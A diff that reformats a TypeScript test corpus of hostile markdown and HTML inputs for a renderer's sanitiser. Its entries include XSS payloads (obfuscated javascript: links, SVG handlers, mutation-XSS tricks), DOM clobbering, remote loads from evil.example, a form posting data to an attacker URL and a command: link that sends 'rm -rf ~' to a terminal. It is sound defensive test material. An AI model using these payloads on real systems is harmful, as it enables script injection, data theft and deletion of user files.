@@ -69,7 +69,10 @@ const raw: [string, string][] = [
   ['JavaScript: mixed case', '[click](JaVaScRiPt:$X)'],
   ['javascript: entity colon', '[click](javascript&#58;$X)'],
   ['javascript: entity j', '[click](&#x6A;avascript:$X)'],
-  ['javascript: all decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$X">click</a>'],
+  [
+    'javascript: all decimal entities',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$X">click</a>',
+  ],
   ['javascript: padded entities', '<a href="&#0000106&#0000097vascript:$X">click</a>'],
   ['javascript: &colon;', '<a href="javascript&colon;$X">click</a>'],
   ['javascript: tab inside', '<a href="jav&#x09;ascript:$X">click</a>'],
@@ -80,12 +83,18 @@ const raw: [string, string][] = [
   ['javascript: with title', '[click](javascript:$X "title")'],
   ['javascript: autolink', '<javascript:$X>'],
   ['javascript: reference link', '[click][x]\n\n[x]: javascript:$X'],
-  ['javascript: reference before definition, streamed', 'See [here][r] and [there][R].\n\nSome text.\n\n[r]: javascript:$X "t"\n'],
+  [
+    'javascript: reference before definition, streamed',
+    'See [here][r] and [there][R].\n\nSome text.\n\n[r]: javascript:$X "t"\n',
+  ],
   ['javascript: percent-encoded scheme', '[click](%6Aavascript:$X)'],
   ['vbscript: link', '[click](vbscript:msgbox(1))'],
   ['data: html link', '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoNjkpPC9zY3JpcHQ+)'],
   ['data: html plain link', '<a href="data:text/html,<script>parent.__xss(70)</script>">click</a>'],
-  ['command: link (terminal)', '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)'],
+  [
+    'command: link (terminal)',
+    '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)',
+  ],
   ['command: link (set key)', '[Set key](command:unifiedInference.setApiKey)'],
   ['command: raw anchor', '<a href="command:workbench.action.reloadWindow">Reload</a>'],
   ['command: reference link', '[Open][c]\n\n[c]: command:workbench.action.openSettings'],
@@ -110,8 +119,14 @@ const raw: [string, string][] = [
   ['protocol-relative image', '![x](//evil.example/t.png)'],
   ['relative image (own server)', '![x](/local.png)'],
   ['reference-style image', `![x][img]\n\n[img]: ${EVIL}/ref.png`],
-  ['svg data image with script', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9feHNzKDkwKSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+)'],
-  ['svg data image plain', '<img src="data:image/svg+xml,<svg onload=__xss(91) xmlns=%22http://www.w3.org/2000/svg%22/>">'],
+  [
+    'svg data image with script',
+    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9feHNzKDkwKSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+)',
+  ],
+  [
+    'svg data image plain',
+    '<img src="data:image/svg+xml,<svg onload=__xss(91) xmlns=%22http://www.w3.org/2000/svg%22/>">',
+  ],
   ['alt text breaking out', '![x" onerror="$X](x)'],
   ['url breaking out', '![x](x" onerror="$X)'],
   ['srcset remote', `<img srcset="${EVIL}/a.png 1x" src="x">`],
@@ -127,9 +142,15 @@ const raw: [string, string][] = [
   ['svg xlink javascript', '<svg><a xlink:href="javascript:$X"><text x="0" y="20">click</text></a></svg>'],
   ['svg animate onbegin', '<svg><animate onbegin=$X attributeName=x dur=1s>'],
   ['svg set handler', '<svg><set attributeName=onmouseover to=$X></svg>'],
-  ['svg animate href to javascript', '<svg><a><animate attributeName=href values=javascript:$X /><text y=20>click</text></a></svg>'],
+  [
+    'svg animate href to javascript',
+    '<svg><a><animate attributeName=href values=javascript:$X /><text y=20>click</text></a></svg>',
+  ],
   ['svg foreignObject', '<svg><foreignObject><img src=x onerror=$X></foreignObject></svg>'],
-  ['svg use data', '<svg><use href="data:image/svg+xml,<svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22><image href=%221%22 onerror=%22__xss(109)%22/></svg>#x"/></svg>'],
+  [
+    'svg use data',
+    '<svg><use href="data:image/svg+xml,<svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22><image href=%221%22 onerror=%22__xss(109)%22/></svg>#x"/></svg>',
+  ],
   ['svg image remote', `<svg><image href="${EVIL}/i.png"/></svg>`],
   ['svg style import', `<svg><style>@import url(${EVIL}/x.css)</style></svg>`],
   ['svg script href', '<svg><script href="data:,__xss(112)"></script></svg>'],
@@ -155,7 +176,10 @@ const raw: [string, string][] = [
   ['link prefetch', `<link rel="prefetch" href="${EVIL}/p">`],
   ['link import', `<link rel="import" href="${EVIL}/i.html">`],
   ['form javascript action', '<form action="javascript:$X"><input type="submit" value="Go"></form>'],
-  ['form remote action', `<form action="${EVIL}/steal" method="post"><input name="q" value="secret"><button>Go</button></form>`],
+  [
+    'form remote action',
+    `<form action="${EVIL}/steal" method="post"><input name="q" value="secret"><button>Go</button></form>`,
+  ],
   ['button formaction', '<form><button formaction="javascript:$X">Go</button></form>'],
   ['isindex', '<isindex action="javascript:$X" type="image">'],
   ['portal', `<portal src="${EVIL}/portal"></portal>`],
@@ -184,12 +208,18 @@ const raw: [string, string][] = [
   ['svg in a fence', '~~~svg\n<svg onload=$X>\n~~~'],
   ['unclosed fence with html', 'Look:\n\n```html\n<script>$X</script>\n<img src=x onerror=$X>'],
   ['cdata in a fence', '```xml\n<![CDATA[<script>$X</script>]]>\n```'],
-  ['placeholder forgery', '<pre data-md-code="0:0">forged</pre><div class="md-code-block"><button data-md-action="copy">x</button></div>'],
+  [
+    'placeholder forgery',
+    '<pre data-md-code="0:0">forged</pre><div class="md-code-block"><button data-md-action="copy">x</button></div>',
+  ],
 
   // Mutation XSS classics
   ['noscript title', '<noscript><p title="</noscript><img src=x onerror=$X>">'],
   ['math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=$X>'],
-  ['math mglyph style comment', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss(158)&gt;">'],
+  [
+    'math mglyph style comment',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss(158)&gt;">',
+  ],
   ['svg p style', '<svg></p><style><a id="</style><img src=1 onerror=$X>">'],
   ['form math mglyph', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$X>'],
   ['math mi table style', '<math><mi><table><mi><style><img src=x onerror=$X>'],
@@ -209,9 +239,15 @@ const raw: [string, string][] = [
   ['noframes', '<noframes><img title="</noframes><img src=x onerror=$X>"></noframes>'],
 
   // DOM clobbering and UI spoofing
-  ['clobber harness', '<a id="xssHarness" name="xssHarness" href="https://ok.example">x</a><form name="getElementById"></form>'],
+  [
+    'clobber harness',
+    '<a id="xssHarness" name="xssHarness" href="https://ok.example">x</a><form name="getElementById"></form>',
+  ],
   ['clobber document props', '<img name="body"><img name="cookie"><a id="location" href="https://evil.example">x</a>'],
-  ['fake code toolbar', '<div class="md-code-toolbar"><button class="md-code-button" data-md-action="newFile">New File</button></div>'],
+  [
+    'fake code toolbar',
+    '<div class="md-code-toolbar"><button class="md-code-button" data-md-action="newFile">New File</button></div>',
+  ],
   ['aria and data attributes', '<p aria-hidden="true" data-x="1" role="button" tabindex="0">x</p>'],
 
   // Obfuscation
@@ -228,13 +264,29 @@ const raw: [string, string][] = [
   // Hostile markup inside output written to break the renderer (test/harness/hostileMarkdown.ts):
   // past its budgets the renderer shows text instead of markdown, and that text must be as inert.
   ['script past 4,000 nested quotes', `${'> '.repeat(4000)}<script>$X</script><img src=x onerror=$X>`],
-  ['handler inside 200 nested divs', `${'<div>'.repeat(200)}<img src=x onerror=$X><a href="javascript:$X">x</a>${'</div>'.repeat(200)}`],
+  [
+    'handler inside 200 nested divs',
+    `${'<div>'.repeat(200)}<img src=x onerror=$X><a href="javascript:$X">x</a>${'</div>'.repeat(200)}`,
+  ],
   ['handler inside 3,000 emphasis delimiters', `${'*'.repeat(3000)}<img src=x onerror=$X>${'*'.repeat(3000)}`],
   ['handlers in delimiter soup', '**b |<img src=x onerror=$X> [x](javascript:$X) '.repeat(150)],
-  ['handlers in a table past the redraw limit', `| a | b |\n|---|---|\n${Array.from({ length: 260 }, (_, row) => `| <img src=x onerror=$X> | [r${row}](javascript:$X) |`).join('\n')}\n\nafter`],
-  ['script in a fence past the tail limit', `\`\`\`html\n${'<script>$X</script><img src=x onerror=$X>\n'.repeat(300)}\`\`\`\n\nafter`],
+  [
+    'handlers in a table past the redraw limit',
+    `| a | b |\n|---|---|\n${Array.from({ length: 260 }, (_, row) => `| <img src=x onerror=$X> | [r${row}](javascript:$X) |`).join('\n')}\n\nafter`,
+  ],
+  [
+    'script in a fence past the tail limit',
+    `\`\`\`html\n${'<script>$X</script><img src=x onerror=$X>\n'.repeat(300)}\`\`\`\n\nafter`,
+  ],
   // A paragraph over 4 KB is rendered in parts (GrowingParagraph): the same policies must hold there.
-  ['long paragraph of hostile links and images', Array.from({ length: 32 }, (_, line) => `line ${line} [run](javascript:$X) ![p](${EVIL}/p${line}.png) [c](command:workbench.action.reloadWindow) *em* \`<img src=x onerror=$X>\``).join('\n')],
+  [
+    'long paragraph of hostile links and images',
+    Array.from(
+      { length: 32 },
+      (_, line) =>
+        `line ${line} [run](javascript:$X) ![p](${EVIL}/p${line}.png) [c](command:workbench.action.reloadWindow) *em* \`<img src=x onerror=$X>\``,
+    ).join('\n'),
+  ],
 ];
 
 /** The corpus, with `$X` turned into a call that names the payload. */
